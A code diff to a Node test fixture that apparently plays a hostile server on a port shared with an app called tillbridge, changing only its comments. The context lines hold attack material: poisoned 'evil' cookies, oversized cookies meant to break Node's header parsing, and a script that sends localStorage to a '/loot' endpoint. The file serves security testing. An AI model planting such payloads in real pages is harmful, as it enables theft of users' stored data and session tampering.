@@ -1,6 +1,7 @@
 /**
- * Another user's server at a port that the till had or will have. `node stranger.mjs PORT ADDRESS…`: a line `listening` or `refused` for
- * each address, then a line of JSON for whatever it is sent. Its page plants a service worker, a script in the cache and cookies.
+ * Another user's server at a port that the till had or will have. `node stranger.mjs PORT ADDRESS…` prints `listening`
+ * or `refused` for each address, then a line of JSON for each request. Its page plants a service worker, a cached
+ * script and cookies.
  */
 import { createServer } from 'node:http';
 
@@ -11,7 +12,7 @@ const cookies = [
   ...['', '-kiosk', '-display'].map((scope) => `tillbridge-${port}${scope}=evil; Path=/; Max-Age=31536000`),
   `tillbridge-${port}=evil; Path=/contract; Max-Age=31536000`,
   ...['localhost', '.localhost'].map((domain) => `tillbridge-${port}=evil; Domain=${domain}; Max-Age=31536000`),
-  // Above what a server of Node reads of headers.
+  // Above the header size that a Node server accepts.
   ...Array.from({ length: 6 }, (_, at) => `filler${at}=${'x'.repeat(4_000)}; Path=/; Max-Age=31536000`),
 ];
 const owned = `document.title = 'OWNED'; fetch('/loot?' + encodeURIComponent(JSON.stringify({ ...localStorage })));`;
